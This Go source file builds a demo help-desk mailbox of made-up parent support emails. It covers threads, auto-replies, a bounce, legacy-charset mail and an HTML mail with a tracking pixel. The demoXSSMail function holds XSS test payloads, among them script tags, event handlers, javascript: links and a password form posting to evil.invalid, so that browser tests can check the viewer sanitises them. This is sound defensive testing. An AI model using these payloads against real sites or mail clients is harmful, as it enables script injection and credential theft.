package app

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"image"
	"image/color"
	"image/png"
	"mime"
	"strings"
	"time"

	"golang.org/x/text/encoding"
	"golang.org/x/text/encoding/charmap"
	"golang.org/x/text/encoding/japanese"
)

// demoDesk is the demo help desk's address; its Sent folder holds our earlier replies.
const demoDesk = "Parents Help Desk <" + DemoIMAPUser + ">"

// demoMessage is one mail of the demo mailbox: the folder it sits in and its raw form.
type demoMessage struct {
	folder string
	raw    []byte
}

// demoLetter is a plain-text mail of the demo; hours is how long ago it was sent.
type demoLetter struct {
	folder, from, to, subject, id, inReplyTo, refs, extra, body string
	hours                                                       int
}

// demoLetters are the plain-text conversations: a thread (question, our reply, her follow-up), a reply
// with an out-of-office answer, our reply that bounced, an auto-reply matching nothing, and single
// questions. Every person in them is made up.
var demoLetters = []demoLetter{
	{folder: "INBOX", from: "Priya Shah <priya.shah@example.com>", subject: "Can't log in after changing my email", id: "login-1@example.com", hours: 50,
		body: "Hi,\n\nI changed my email address last week and now the site says my account doesn't exist. I've tried resetting my password but the link never arrives.\n\nThanks,\nPriya"},
	{folder: "Sent", from: demoDesk, to: "Priya Shah <priya.shah@example.com>", subject: "Re: Can't log in after changing my email", id: "reply-login@demo.example",
		inReplyTo: "login-1@example.com", refs: "<login-1@example.com>", hours: 46,
		body: "Hi Priya,\n\nSorry about that. We've moved your account to your new address: please sign in with it and use 'Forgotten password' once more.\n\nBest wishes,\nHana, Parents Help Desk"},
	{folder: "INBOX", from: "Priya Shah <priya.shah@example.com>", subject: "Re: Can't log in after changing my email", id: "login-2@example.com",
		inReplyTo: "reply-login@demo.example", refs: "<login-1@example.com> <reply-login@demo.example>", hours: 20,
		body: "Thanks, that worked on the website, but the app still shows my old email and logs me out every day.\n\n> Sorry about that. We've moved your account to your new address."},
	{folder: "INBOX", from: "Tom Evans <tom.evans@example.net>", subject: "Please remove my listing", id: "listing-1@example.net", hours: 40,
		body: "Hello,\n\nOur toddler group has closed, please take down the listing for Little Acorns in Leeds.\n\nTom"},
	{folder: "Sent", from: demoDesk, to: "Tom Evans <tom.evans@example.net>", subject: "Re: Please remove my listing", id: "reply-listing@demo.example",
		inReplyTo: "listing-1@example.net", refs: "<listing-1@example.net>", hours: 38,
		body: "Hi Tom,\n\nDone: the Little Acorns listing is no longer shown. Sorry to hear the group has closed.\n\nMo, Parents Help Desk"},
	{folder: "INBOX", from: "Tom Evans <tom.evans@example.net>", subject: "Automatic reply: Re: Please remove my listing", id: "ooo-tom@example.net",
		inReplyTo: "reply-listing@demo.example", refs: "<listing-1@example.net> <reply-listing@demo.example>", hours: 37,
		extra: "Auto-Submitted: auto-replied\r\nX-Auto-Response-Suppress: All\r\n",
		body:  "I'm away until Monday with limited access to email."},
	{folder: "INBOX", from: "Sam Patel <sam.patel@old-isp.example>", subject: "Competition prize not arrived", id: "prize-1@old-isp.example", hours: 60,
		body: "I was told I won the pushchair competition in October but nothing has arrived yet. My address is the one on my profile."},
	{folder: "Sent", from: demoDesk, to: "Sam Patel <sam.patel@old-isp.example>", subject: "Re: Competition prize not arrived", id: "reply-prize@demo.example",
		inReplyTo: "prize-1@old-isp.example", refs: "<prize-1@old-isp.example>", hours: 55,
		body: "Hi Sam,\n\nCongratulations again! The sponsor says the pushchair was posted on the 3rd. Could you confirm your postcode?\n\nCleo, Parents Help Desk"},
	{folder: "INBOX", from: "Mrs Hughes <office@st-marys-school.example>", subject: "Out of Office: Term dates", id: "ooo-school@st-marys-school.example",
		extra: "X-Autoreply: yes\r\nPrecedence: auto_reply\r\n", hours: 33,
		body: "The school office is closed for half term. We will reply when we return."},
	{folder: "INBOX", from: "Jo Williams <jo.williams@example.co.uk>", subject: "Offensive comment on my review", id: "review-1@example.co.uk", hours: 26,
		body: "Someone replied to my review of the soft play centre in Bristol with a really nasty comment about my children. Can you remove it?"},
	{folder: "INBOX", from: "Alex Murray <alex.murray@example.com>", subject: "What do you do with my data?", id: "sar-1@example.com", hours: 24,
		body: "Could you send me a copy of all the data you hold about me please? My forum name is AlexM_Leeds."},
	{folder: "INBOX", from: "Aisha Khan <aisha.khan@example.com>", subject: "Please keep this private - my son's autism assessment", id: "private-1@example.com", hours: 12,
		body: "Hello,\n\nMy son is being assessed for autism and I posted about it in the forum, but I'd like that post removed: it has his school's name in it. Please don't share this with anyone.\n\nAisha"},
	{folder: "INBOX", from: "Megan Jones <megan.jones@example.org>", subject: "Event listing shows the wrong date", id: "event-1@example.org", hours: 6,
		extra: "MIME-Version: 1.0\r\nContent-Type: multipart/mixed\r\n",
		body:  "The baby sensory class in Cardiff shows Saturday, but it moved to Sunday.\r\n(This mail's MIME header has no boundary: Staffdesk keeps it with a warning.)"},
}

// raw writes the letter as an RFC 5322 mail sent at now minus its hours.
func (l demoLetter) raw(now time.Time) []byte {
	var b strings.Builder
	fmt.Fprintf(&b, "From: %s\r\nTo: %s\r\nSubject: %s\r\nDate: %s\r\nMessage-ID: <%s>\r\n", l.from, or(l.to, demoDesk),
		mime.QEncoding.Encode("utf-8", l.subject), now.Add(-time.Duration(l.hours)*time.Hour).Format(time.RFC1123Z), l.id)
	if l.inReplyTo != "" {
		fmt.Fprintf(&b, "In-Reply-To: <%s>\r\nReferences: %s\r\n", l.inReplyTo, l.refs)
	}
	b.WriteString(l.extra)
	if !strings.Contains(l.extra, "Content-Type") {
		b.WriteString("MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n")
	}
	b.WriteString("\r\n" + strings.ReplaceAll(l.body, "\n", "\r\n") + "\r\n")
	return []byte(b.String())
}

// demoMessages is the whole demo mailbox at now: the letters, then the mails that need MIME of their own.
func demoMessages(now time.Time) []demoMessage {
	var out []demoMessage
	for _, l := range demoLetters {
		out = append(out, demoMessage{l.folder, l.raw(now)})
	}
	date := func(h int) string { return now.Add(-time.Duration(h) * time.Hour).Format(time.RFC1123Z) }
	out = append(out,
		demoMessage{"INBOX", demoBounce(date(54))},
		demoMessage{"INBOX", demoCP1252(date(30))},
		demoMessage{"INBOX", demoJapanese(date(18))},
		demoMessage{"INBOX", demoPhotoMail(date(8))},
		demoMessage{"INBOX", demoXSSMail(date(3))},
	)
	return out
}

// demoBounce returns our reply to Sam, whose old address no longer exists.
func demoBounce(date string) []byte {
	return []byte("From: Mail Delivery System <MAILER-DAEMON@mx.demo.example>\r\nTo: " + DemoIMAPUser + "\r\n" +
		"Subject: Undelivered Mail Returned to Sender\r\nDate: " + date + "\r\nMessage-ID: <bounce-prize@mx.demo.example>\r\n" +
		"Auto-Submitted: auto-replied\r\nMIME-Version: 1.0\r\n" +
		"Content-Type: multipart/report; report-type=delivery-status; boundary=\"bounce\"\r\n\r\n" +
		"--bounce\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\n" +
		"I'm sorry to have to inform you that your message could not be delivered to sam.patel@old-isp.example:\r\n" +
		"the mailbox does not exist.\r\n" +
		"--bounce\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx.demo.example\r\n\r\n" +
		"Final-Recipient: rfc822; sam.patel@old-isp.example\r\nAction: failed\r\nStatus: 5.1.1\r\n\r\n" +
		"--bounce\r\nContent-Type: text/rfc822-headers\r\n\r\nFrom: " + demoDesk + "\r\nTo: sam.patel@old-isp.example\r\n" +
		"Subject: Re: Competition prize not arrived\r\nMessage-ID: <reply-prize@demo.example>\r\nIn-Reply-To: <prize-1@old-isp.example>\r\n" +
		"--bounce--\r\n")
}

// demoCP1252 is a mail from an old Windows client in windows-1252, quoted-printable.
func demoCP1252(date string) []byte {
	body := encode(charmap.Windows1252.NewEncoder(), "Hello,\r\n\r\nI’ve unsubscribed from the weekly newsletter twice – on Monday and again "+
		"on Thursday – but it still arrives. I also never got the £5 voucher for signing up.\r\n\r\nRegards,\r\nGrace O’Neill\r\n")
	var qp bytes.Buffer
	for _, c := range body {
		if c >= 0x80 || c == '=' {
			fmt.Fprintf(&qp, "=%02X", c)
		} else {
			qp.WriteByte(c)
		}
	}
	return []byte("From: =?windows-1252?Q?Grace_O=92Neill?= <grace.oneill@example.org>\r\nTo: " + DemoIMAPUser + "\r\n" +
		"Subject: =?windows-1252?Q?Still_getting_the_newsletter_=96_and_no_=A35_voucher?=\r\nDate: " + date + "\r\n" +
		"Message-ID: <newsletter-1@example.org>\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=windows-1252\r\n" +
		"Content-Transfer-Encoding: quoted-printable\r\n\r\n" + qp.String())
}

// demoJapanese is a mail in ISO-2022-JP, as Japanese mail clients still send it.
func demoJapanese(date string) []byte {
	subject := encode(japanese.ISO2022JP.NewEncoder(), "ベビーカーの返品について")
	body := encode(japanese.ISO2022JP.NewEncoder(), "こんにちは。\r\n先週購入したベビーカーの返品方法を教えてください。\r\n"+
		"(Hello, please tell me how to return the pushchair I bought last week.)\r\n\r\n佐藤 由美\r\n")
	return []byte("From: Yumi Sato <yumi.sato@example.jp>\r\nTo: " + DemoIMAPUser + "\r\n" +
		"Subject: =?ISO-2022-JP?B?" + base64.StdEncoding.EncodeToString(subject) + "?=\r\nDate: " + date + "\r\n" +
		"Message-ID: <return-1@example.jp>\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=ISO-2022-JP\r\n" +
		"Content-Transfer-Encoding: 7bit\r\n\r\n" + string(body))
}

// demoPhotoMail is an HTML mail with an inline (cid:) photo, a remote tracking image and a PDF attached.
func demoPhotoMail(date string) []byte {
	var img bytes.Buffer
	pic := image.NewRGBA(image.Rect(0, 0, 24, 16))
	for i := range pic.Pix {
		pic.Pix[i] = byte(90 + i%120)
	}
	pic.Set(0, 0, color.RGBA{200, 40, 40, 255})
	png.Encode(&img, pic)
	html := `<html><body><p>Hi,</p><p>The pushchair from the competition arrived with a <b>broken wheel</b>: photo below.</p>` +
		`<p><img src="cid:wheel-photo@example.co.uk" alt="the broken wheel"></p>` +
		`<p>Receipt attached. <a href="https://shop.example/returns">The shop's returns page</a> says to contact you.</p>` +
		`<img src="https://tracker.invalid/open.gif?id=4711" width="1" height="1"></body></html>`
	pdf := "%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
	return []byte("From: Chloe Brown <chloe.brown@example.co.uk>\r\nTo: " + DemoIMAPUser + "\r\n" +
		"Subject: Photo of the damaged pushchair\r\nDate: " + date + "\r\nMessage-ID: <photo-1@example.co.uk>\r\nMIME-Version: 1.0\r\n" +
		"Content-Type: multipart/mixed; boundary=\"mixed\"\r\n\r\n" +
		"--mixed\r\nContent-Type: multipart/related; boundary=\"related\"\r\n\r\n" +
		"--related\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + html + "\r\n" +
		"--related\r\nContent-Type: image/png\r\nContent-ID: <wheel-photo@example.co.uk>\r\nContent-Disposition: inline; filename=\"wheel.png\"\r\n" +
		"Content-Transfer-Encoding: base64\r\n\r\n" + base64.StdEncoding.EncodeToString(img.Bytes()) + "\r\n--related--\r\n" +
		"--mixed\r\nContent-Type: application/pdf; name=\"receipt.pdf\"\r\nContent-Disposition: attachment; filename*=utf-8''receipt%20%C2%A3189.pdf\r\n" +
		"Content-Transfer-Encoding: base64\r\n\r\n" + base64.StdEncoding.EncodeToString([]byte(pdf)) + "\r\n--mixed--\r\n")
}

// demoXSSMail carries the usual tricks for running script in a mail viewer; none may run in Staffdesk.
// Its text holds the word "xsscheck" for the browser tests to find it.
func demoXSSMail(date string) []byte {
	html := `<html><head><meta http-equiv="refresh" content="0;url=https://evil.invalid/"><base href="https://evil.invalid/">` +
		`<style>body{background:url(https://evil.invalid/bg.png)}</style></head><body>` +
		`<p>My post looks odd (xsscheck), see below:</p><script>window.__xss=1</script>` +
		`<img src="x" onerror="window.__xss=1"><svg onload="window.__xss=1"><circle r="4"></circle></svg>` +
		`<a href="javascript:window.__xss=1">click me</a> <a href="vbscript:msgbox(1)">or me</a>` +
		`<iframe src="https://evil.invalid/frame"></iframe><object data="https://evil.invalid/x.swf"></object>` +
		`<form action="https://evil.invalid/steal"><input name="password"><button>Log in</button></form>` +
		`<div style="width:expression(alert(1));background-image:url(javascript:alert(1))">styled</div>` +
		`<a href="https://www.parents.example/forum/post/123" onclick="window.__xss=1">my post</a></body></html>`
	return []byte("From: Chris Parker <chris.parker@example.net>\r\nTo: " + DemoIMAPUser + "\r\n" +
		"Subject: Weird formatting in my post\r\nDate: " + date + "\r\nMessage-ID: <xss-1@example.net>\r\nMIME-Version: 1.0\r\n" +
		"Content-Type: text/html; charset=utf-8\r\n\r\n" + html + "\r\n")
}

// encode converts s to a legacy charset; characters it lacks become the charset's replacement.
func encode(e *encoding.Encoder, s string) []byte {
	b, _ := encoding.ReplaceUnsupported(e).Bytes([]byte(s))
	return b
}
